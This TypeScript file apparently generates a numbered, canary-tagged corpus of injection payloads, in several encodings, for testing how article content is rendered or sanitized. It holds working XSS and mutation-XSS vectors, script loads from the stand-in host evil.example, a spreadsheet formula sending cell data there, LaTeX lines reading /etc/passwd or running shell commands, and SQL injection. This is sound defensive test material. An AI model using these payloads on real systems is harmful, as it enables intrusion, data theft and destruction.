/** What an article may hold to run, leave its place, or mislead whoever reads it. `RUN` becomes a call of the canary. */
const KINDS: Readonly<Record<string, readonly string[]>> = {
  markup: [
    '<script>RUN</script>',
    '<ScRiPt src=//evil.example/x.js></ScRiPt>',
    '<img src=x onerror=RUN>',
    '<img/src/onerror=RUN>',
    '<svg onload=RUN>',
    '<svg><script>RUN</script></svg>',
    '<svg><animate onbegin=RUN attributeName=x dur=1s>',
    '<math><mtext><img src=x onerror=RUN></mtext></math>',
    '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
    '<iframe src="javascript:parent.RUN"></iframe>',
    '<object data="javascript:RUN"></object>',
    '<embed src="javascript:RUN">',
    '<details open ontoggle=RUN><summary>more</summary></details>',
    '<input autofocus onfocus=RUN>',
    '<video><source onerror=RUN></video>',
    '<body onload=RUN>',
    '<a href="javascript:RUN">read on</a>',
    '<a href=" &#106;avascript:RUN">read on</a>',
    '<form action="javascript:RUN"><button autofocus>send</button></form>',
    '<button formaction="javascript:RUN" form=x>send</button>',
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    '<base href="//evil.example/">',
    '<link rel=stylesheet href="//evil.example/x.css">',
    '<style>@import url(//evil.example/x.css); * { background: url(//evil.example/x.png) }</style>',
    '<p style="background:url(//evil.example/x.png)">styled</p>',
    '<template><script>RUN</script></template>',
    '<isindex action="javascript:RUN">',
    '<marquee onstart=RUN>moving</marquee>',
  ],
  'markup that changes when it is parsed twice': [
    '<noscript><p title="</noscript><img src=x onerror=RUN>">',
    '<table><td><svg><style><img title="</style><img src=x onerror=RUN>">',
    '<math><mi><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
    '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>',
    '<!--><img src=x onerror=RUN>-->',
    '<![CDATA[<img src=x onerror=RUN>]]>',
    '<?xml-stylesheet href="javascript:RUN"?>',
  ],
  'out of where it stands': [
    '"><script>RUN</script>',
    "'><script>RUN</script>",
    '</title><script>RUN</script>',
    '</script><script>RUN</script>',
    '</textarea><script>RUN</script>',
    '</style><script>RUN</script>',
    '--><script>RUN</script>',
    ']]><script>RUN</script>',
    '*/RUN/*',
    '</blockquote></article></main><script>RUN</script>',
    '" onmouseover="RUN" x="',
    "' autofocus onfocus='RUN' x='",
    '`+RUN+`',
    '"-RUN-"',
    "\\';RUN//",
    '\u2028RUN\u2029',
    '</mark><img src=x onerror=RUN>',
  ],
  templates: [
    "{{constructor.constructor('RUN')()}}",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is one of another language
    '${RUN}',
    '#{RUN}',
    '<%= RUN %>',
    '{% raw %}{{ RUN }}',
    '{name} {words} {url}',
    '$& $1 $`',
  ],
  addresses: [
    'javascript:RUN',
    'JaVaScRiPt:RUN',
    'java\tscript:RUN',
    'javascript://example.org/%0aRUN',
    'data:text/html,<script>RUN</script>',
    'vbscript:RUN',
    'https://evil.example/"><script>RUN</script>',
    'https://user:word@evil.example:99999/',
    '//evil.example/x',
    '\\\\evil.example\\x',
    'http://[::1',
    'mailto:a@example.org?bcc=b@example.net',
  ],
  Markdown: [
    '[read on](javascript:RUN)',
    '![seen](x" onerror="RUN)',
    '<javascript:RUN>',
    '[read on][1]\n\n[1]: javascript:RUN',
    '[^1]: <img src=x onerror=RUN>',
    '```html\n<script>RUN</script>\n```',
    '| a |\n|---|\n| <img src=x onerror=RUN> |',
    '<div>\n\n<script>RUN</script>\n\n</div>',
  ],
  tables: [
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    '-2+3+RUN',
    '@SUM(1+1)*RUN',
    '\t=1+1',
    '\r=1+1',
    '","=1+1","',
    '"\n=1+1\n"',
  ],
  citations: [
    '}, note = {x',
    '\\input{/etc/passwd}',
    '\\write18{touch x}',
    '}\n@book{x, title = {y}}',
    '% @comment{',
    '$x_1^2 ~ & # \\',
    '\r\nER  - \r\nTY  - BOOK',
    '\nTI  - Other',
  ],
  queries: [
    "'; DROP TABLE articles; --",
    '" OR ""="',
    'x* NEAR("y" z) AND',
    "');ATTACH 'x.db' AS x;--",
    '{"$ne":1}',
  ],
  places: [
    '../../../../etc/passwd',
    '..\\..\\windows',
    '/etc/passwd',
    'CON',
    'a/../../b',
    '%2e%2e%2fx',
    '.htaccess',
    'index.html',
    '-rf',
    '~root',
    'a\u0000b',
    'assets/cuttings.js',
  ],
  lines: [
    '\r\nSet-Cookie: x=1',
    '\n/* /x 301',
    'a\u0085b\u000bc\u000cd',
    '\n---\ntitle: other\n---\n',
    '\u001e{"id":1}',
  ],
  terminals: [
    '\u001b]52;c;eA==\u0007',
    '\u001b[2J\u001b[H',
    '\u009b31m',
    '\u001b]8;;https://evil.example\u0007x',
    '\b\b\b\u007f',
  ],
  characters: [
    '\u202eevil\u202c',
    '\u200b\u200d\ufeffx',
    '\ud800x',
    'x\udc00',
    '\uffff\ufffe\ufdd0',
    '\u{1ffff}\u{10ffff}',
    'e\u0301\u0301\u0301\u0301\u0301',
    '\uff1cscript\uff1eRUN\uff1c/script\uff1e',
    '\ufb01 \u0130 \u00df \u1e9e',
    '\u{e0041}\u{e007f}',
  ],
  programs: [
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    'null',
    'NaN',
    '"},"x":{"y":"',
    '1e999',
    '-0',
    '[object Object]',
  ],
};

/** The ways in which the same is written. */
const ENCODINGS: Readonly<Record<string, (text: string) => string>> = {
  'as it is': (text) => text,
  'as entities': (text) => text.replace(/[<>"'&:]/g, (sign) => `&#${sign.charCodeAt(0)};`),
  'as entities twice': (text) =>
    text.replace(/[<>"'&:]/g, (sign) => `&amp;#x${sign.charCodeAt(0).toString(16)};`),
  'percent-encoded': (text) =>
    text.replace(/[<>"'&/ ]/g, (sign) => `%${sign.charCodeAt(0).toString(16).padStart(2, '0')}`),
  'in fullwidth signs': (text) =>
    text.replace(/[<>"'/=]/g, (sign) => String.fromCharCode(sign.charCodeAt(0) + 0xfee0)),
};

/** What may run says its number. */
export interface Payload {
  readonly number: number;
  readonly kind: string;
  readonly encoding: string;
  readonly text: string;
}

/** Every kind in every way, each once. */
export const PAYLOADS: readonly Payload[] = Object.entries(ENCODINGS)
  .flatMap(([encoding, encode]) =>
    Object.entries(KINDS).flatMap(([kind, texts]) =>
      texts
        .filter((text) => encoding === 'as it is' || encode(text) !== text)
        .map((text) => ({ kind, encoding, text: encode(text) })),
    ),
  )
  .map((payload, number) => ({
    number,
    ...payload,
    text: payload.text.replaceAll('RUN', `canary(${number})`),
  }));
